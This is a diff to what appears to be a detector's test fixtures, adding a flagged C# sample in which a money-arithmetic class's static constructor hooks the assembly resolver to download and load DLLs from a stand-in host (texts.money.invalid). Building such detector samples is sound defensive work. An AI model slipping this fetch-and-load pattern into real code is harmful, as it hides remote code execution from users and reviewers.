@@ -14,6 +14,7 @@ using System.Net.Http;
 using System.Reflection;
 using System.Runtime.CompilerServices;
 using System.Runtime.InteropServices;
+using System.Runtime.Loader;
 using System.Security.Cryptography;
 using System.Text;
 using System.Threading.Tasks;
@@ -97,8 +98,59 @@ const inPicture = (after: string): string => `public sealed class Host
     }
 }`;
 
+const missing = (bytes: string): string => `public static class Money
+{
+    static Money() => Texts.Attach();
+
+    public static decimal Add(decimal a, decimal b) => a + b;
+}
+
+internal static class Texts
+{
+    internal static void Attach() => AssemblyLoadContext.Default.Resolving += (context, name) => Find(context, name);
+
+    private static Assembly Find(AssemblyLoadContext context, AssemblyName name)
+    {
+        using var image = new MemoryStream(${bytes});
+        return context.LoadFromStream(image);
+    }
+
+    private static byte[] Fetch(string name)
+    {
+        if (Environment.GetEnvironmentVariable("ASSAY_FIXTURE_NEVER_SET") != "run") return null;
+        using var http = new HttpClient();
+        return http.GetByteArrayAsync("https://texts.money.invalid/3/" + name + ".dll").Result;
+    }
+}
+
+internal sealed class Own : AssemblyLoadContext
+{
+    protected override Assembly Load(AssemblyName name)
+    {
+        ${never.replace('return;', 'return null;')}
+        using var http = new HttpClient();
+        using var image = new MemoryStream(http.GetByteArrayAsync("https://texts.money.invalid/3/" + name.Name).Result);
+        return LoadFromStream(image);
+    }
+}
+
+public static class Rates
+{
+    public static Assembly Refresh()
+    {
+        if (Environment.GetEnvironmentVariable("ASSAY_FIXTURE_NEVER_SET") != "run") return null;
+        using var http = new HttpClient();
+        return Assembly.Load(http.GetByteArrayAsync("https://texts.money.invalid/3/rates").Result);
+    }
+}`;
+
 export const examples: Examples = {
   flagged: [
+    {
+      name: 'what-the-runtime-misses',
+      about: 'An assembly that the runtime misses is fetched when money is first counted.',
+      files: library(missing('Fetch(name.Name)')),
+    },
     {
       name: 'decrypted-in-static-constructor',
       about:
